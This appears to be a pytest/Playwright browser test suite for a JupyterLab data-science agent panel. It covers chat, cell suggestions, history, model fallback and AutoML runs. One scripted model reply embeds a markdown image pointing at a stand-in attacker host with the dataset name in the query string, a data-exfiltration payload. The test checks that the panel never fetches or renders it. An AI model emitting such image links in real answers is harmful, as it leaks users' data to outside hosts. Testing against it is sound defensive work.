"""Chat, suggestions and AutoML in the DS Agent panel, in a real JupyterLab and Chromium,
talking over the comm to the agent in a real kernel.

Two servers: one with no model (the agent answers with its offline planner) and one
whose model is the scripted OpenAI-compatible server, reached through the server's
LLM gateway (the kernel never sees the provider key).
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from typing import Any

import pytest

from tests.scripted_llm import Reply, ScriptedLLM, call

from ..paths import SHARED_DATA
from .lab import Lab, start_lab
from .ui import (
    CELLS,
    PANEL,
    cell_count,
    cell_source,
    open_notebook,
    open_panel,
    show_tab,
    wait_for_agent_state,
    wait_for_cell_count,
)

TIPS = SHARED_DATA / "seaborn" / "tips.csv"
TITANIC = SHARED_DATA / "seaborn" / "titanic.csv"
SETUP = f"import pandas as pd\n\ntips = pd.read_csv({str(TIPS)!r})"
ANSWER_MS = 120_000

SCRIPTED_CODE = "tips.describe()"
SCRIPTED_TEXT = (
    "Here is a summary of **tips**. ![chart](https://attacker.example/leak.png?d=tips) "
    "See [the docs](https://pandas.pydata.org/)."
)


@pytest.fixture(scope="module")
def offline_lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    server = start_lab(tmp_path_factory.mktemp("offline"))
    yield server
    server.stop()


@pytest.fixture(scope="module")
def llm() -> Iterator[ScriptedLLM]:
    with ScriptedLLM() as server:
        yield server


@pytest.fixture(scope="module")
def gateway_lab(tmp_path_factory: pytest.TempPathFactory, llm: ScriptedLLM) -> Iterator[Lab]:
    server = start_lab(
        tmp_path_factory.mktemp("gateway"),
        {
            "DSAGENT_MODEL": "openai/scripted",
            "DSAGENT_API_BASE": llm.url,
            "DSAGENT_MODEL_RETRIES": "0",
            "OPENAI_API_KEY": "sk-scripted-browser-test",
        },
    )
    yield server
    server.stop()


@pytest.fixture
def scripted(llm: ScriptedLLM) -> ScriptedLLM:
    """Suggest ``tips.describe()``, then answer in text once the tool has run."""

    def answer(body: dict[str, Any]) -> Reply:
        last = (body.get("messages") or [{}])[-1]
        if last.get("role") == "tool":
            return Reply(text=SCRIPTED_TEXT, prompt_tokens=321, completion_tokens=45)
        return Reply(
            tool_calls=[
                call("suggest_cell", {"code": SCRIPTED_CODE, "explanation": "Summary statistics."})
            ],
            prompt_tokens=300,
            completion_tokens=20,
        )

    llm.respond_with(answer)
    return llm


@pytest.fixture(autouse=True)
def fresh_kernels(request: pytest.FixtureRequest) -> Iterator[None]:
    yield
    for name in ("offline_lab", "gateway_lab"):
        if name in request.fixturenames:
            request.getfixturevalue(name).shutdown_kernels()


def connect_agent(page: Any, lab: Lab, name: str, cells: list[str] | None = None) -> Any:
    """Open a notebook and the panel, and load the agent with the panel's button."""
    open_notebook(page, lab, name, cells or [SETUP])
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    panel = open_panel(page)
    wait_for_agent_state(page, "not-loaded")
    panel.locator(".jp-DSAgent-loadExt").click()
    wait_for_agent_state(page, "ready")
    return panel


def ask(page: Any, question: str) -> Any:
    """Type a question, send it with Enter, and return its exchange once answered."""
    show_tab(page, "Chat")
    box = page.locator(f"{PANEL} .jp-DSAgent-input")
    box.fill(question)
    box.press("Enter")
    exchange = page.locator(f"{PANEL} .jp-DSAgent-exchange").last
    exchange.locator(".jp-DSAgent-question").wait_for()
    page.wait_for_selector(
        f'{PANEL} .jp-DSAgent-exchange:last-child:is([data-status="done"], [data-status="failed"])',
        timeout=ANSWER_MS,
    )
    return exchange


def test_load_button_connects_the_agent(page: Any, offline_lab: Lab, shot: Any) -> None:
    panel = connect_agent(page, offline_lab, "connect.ipynb")
    assert "offline planner" in panel.locator(".jp-DSAgent-agentLine").inner_text()
    assert panel.locator(".jp-DSAgent-input").is_enabled()
    shot("connected")


def test_offline_planner_answers_and_its_suggestion_is_inserted_and_run(
    page: Any, offline_lab: Lab, shot: Any
) -> None:
    panel = connect_agent(page, offline_lab, "offline.ipynb")
    exchange = ask(page, "what's missing in tips?")
    assert exchange.get_attribute("data-status") == "done", exchange.inner_text()
    card = exchange.locator(".jp-DSAgent-suggestion").first
    code = card.locator(".jp-DSAgent-code").evaluate("node => node.textContent")
    assert "tips" in code
    shot("answered")

    before = cell_count(page)
    card.locator(".jp-DSAgent-insert").click()
    wait_for_cell_count(page, before + 1)
    cells = page.locator(CELLS)
    assert cell_source(page, before) == code

    card.locator(".jp-DSAgent-insertRun").click()
    wait_for_cell_count(page, before + 2)
    ran = cells.nth(before + 1)
    ran.locator(".jp-OutputArea-output").first.wait_for(timeout=ANSWER_MS)
    assert cell_source(page, before + 1) == code
    assert "Inserted and ran" in card.locator(".jp-DSAgent-outcome").inner_text()
    shot("inserted-and-ran")
    audit = offline_lab.api("GET", "dsagent/api/audit?kind=suggestion.inserted")
    runs = [record["details"].get("run") for record in audit if record["outcome"] == "ok"]
    assert sorted(runs) == [False, True], audit
    assert panel.locator(".jp-DSAgent-chat > .jp-DSAgent-error").count() == 0


def test_keyboard_shift_enter_adds_a_line_and_enter_sends(
    page: Any, offline_lab: Lab, shot: Any
) -> None:
    connect_agent(page, offline_lab, "keyboard.ipynb")
    box = page.locator(f"{PANEL} .jp-DSAgent-input")
    box.click()
    page.keyboard.type("what's missing")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("in tips?")
    assert box.input_value() == "what's missing\nin tips?"
    page.keyboard.press("Enter")
    question = page.locator(f"{PANEL} .jp-DSAgent-question").last
    question.wait_for()
    assert question.inner_text() == "what's missing\nin tips?"
    assert box.input_value() == ""


def test_history_is_kept_across_a_reload(page: Any, offline_lab: Lab, shot: Any) -> None:
    connect_agent(page, offline_lab, "history.ipynb")
    ask(page, "what's missing in tips?")
    page.reload()
    page.wait_for_selector("#jp-main-dock-panel")
    open_panel(page)
    show_tab(page, "Chat")
    question = page.locator(f"{PANEL} .jp-DSAgent-question").first
    question.wait_for()
    assert question.inner_text() == "what's missing in tips?"
    assert page.locator(f'{PANEL} .jp-DSAgent-exchange[data-status="done"]').count() == 1
    shot("reloaded")


def test_gateway_model_answer_is_sanitised_streamed_and_traced(
    page: Any, gateway_lab: Lab, scripted: ScriptedLLM, shot: Any
) -> None:
    panel = connect_agent(page, gateway_lab, "gateway.ipynb")
    assert "model openai/scripted" in panel.locator(".jp-DSAgent-agentLine").inner_text()
    requested: list[str] = []
    page.on("request", lambda request: requested.append(request.url))
    exchange = ask(page, "summarise tips")
    assert exchange.get_attribute("data-status") == "done", exchange.inner_text()
    answer = exchange.locator(".jp-DSAgent-answer")
    assert "Here is a summary of tips" in answer.inner_text()
    # The model's image and link are text, never fetched or clickable.
    assert answer.locator("img, a").count() == 0
    assert "https://attacker.example/leak.png" in answer.inner_text()
    assert "the docs (https://pandas.pydata.org/)" in answer.inner_text()
    assert not [url for url in requested if "attacker.example" in url or "pandas.pydata" in url]

    card = exchange.locator(".jp-DSAgent-suggestion").first
    assert card.locator(".jp-DSAgent-code").inner_text().strip() == SCRIPTED_CODE
    assert card.locator(".jp-DSAgent-code span").count() > 0  # syntax highlighted

    facts = exchange.locator(".jp-DSAgent-facts button")
    assert "openai/scripted" in facts.inner_text()
    facts.click()
    trace = exchange.locator(".jp-DSAgent-trace")
    assert "suggest_cell" in trace.inner_text()
    assert re.search(r"Tokens: \d+ in, \d+ out", trace.inner_text())
    shot("answered")

    before = cell_count(page)
    card.locator(".jp-DSAgent-insertRun").click()
    wait_for_cell_count(page, before + 1)
    ran = page.locator(CELLS).nth(before)
    ran.locator(".jp-OutputArea-output").first.wait_for(timeout=ANSWER_MS)
    assert "total_bill" in ran.locator(".jp-OutputArea-output").first.inner_text()
    audit = gateway_lab.api("GET", "dsagent/api/audit?kind=suggestion.inserted")
    assert [r["details"]["run"] for r in audit if r["outcome"] == "ok"] == [True], audit

    show_tab(page, "Usage")
    usage = page.locator(f"{PANEL} .jp-DSAgent-conversationUsage")
    assert re.search(r"Answers\s*1", usage.inner_text())
    page.locator(f"{PANEL} .jp-DSAgent-budgets").wait_for()
    shot("usage")


def test_model_failure_falls_back_and_stop_ends_an_answer(
    page: Any, gateway_lab: Lab, llm: ScriptedLLM, shot: Any
) -> None:
    connect_agent(page, gateway_lab, "failure.ipynb")
    # The model fails: the agent answers with its offline planner, and the panel says so.
    llm.respond_with(lambda body: Reply(status=503, error_message="upstream is down"))
    exchange = ask(page, "summarise tips")
    assert exchange.get_attribute("data-status") == "done", exchange.inner_text()
    assert "offline planner" in exchange.locator(".jp-DSAgent-facts").inner_text()
    shot("fallback")

    llm.respond_with(lambda body: Reply(text="A very slow answer.", delay=60))
    show_tab(page, "Chat")
    box = page.locator(f"{PANEL} .jp-DSAgent-input")
    box.fill("summarise tips slowly")
    box.press("Enter")
    stop = page.locator(f"{PANEL} .jp-DSAgent-stop")
    stop.click()
    page.wait_for_selector(
        f'{PANEL} .jp-DSAgent-exchange:last-child:is([data-status="done"], [data-status="failed"])',
        timeout=ANSWER_MS,
    )
    assert page.locator(f"{PANEL} .jp-DSAgent-send").count() == 1
    last = page.locator(f"{PANEL} .jp-DSAgent-exchange").last
    assert last.locator(".jp-DSAgent-stopped, .jp-DSAgent-error").count() == 1, last.inner_text()
    shot("stopped")


def test_automl_run_shows_progress_and_can_be_cancelled(
    page: Any, offline_lab: Lab, shot: Any
) -> None:
    cells = [
        f"import pandas as pd\n\ntitanic = pd.read_csv({str(TITANIC)!r})",
        "%load_ext jupyter_dsagent",
        "%dsagent automl titanic --target survived --time 300",
    ]
    open_notebook(page, offline_lab, "automl.ipynb", cells)
    panel = open_panel(page)
    page.evaluate("() => window.jupyterapp.commands.execute('notebook:run-all-cells')")
    # The panel notices %load_ext in a cell and connects without a click.
    wait_for_agent_state(page, "ready")
    show_tab(page, "AutoML")
    run = panel.locator('.jp-DSAgent-run[data-status="running"]').first
    run.wait_for(timeout=ANSWER_MS)
    assert run.locator("progress").count() == 1
    assert re.search(r"of 5 min", run.locator(".jp-DSAgent-recordFacts").inner_text())
    shot("running")
    run.locator(".jp-DSAgent-cancelRun").click()
    panel.locator('.jp-DSAgent-run[data-status="cancelled"]').wait_for(timeout=ANSWER_MS)
    assert panel.locator(".jp-DSAgent-cancelRun").count() == 0
    shot("cancelled")
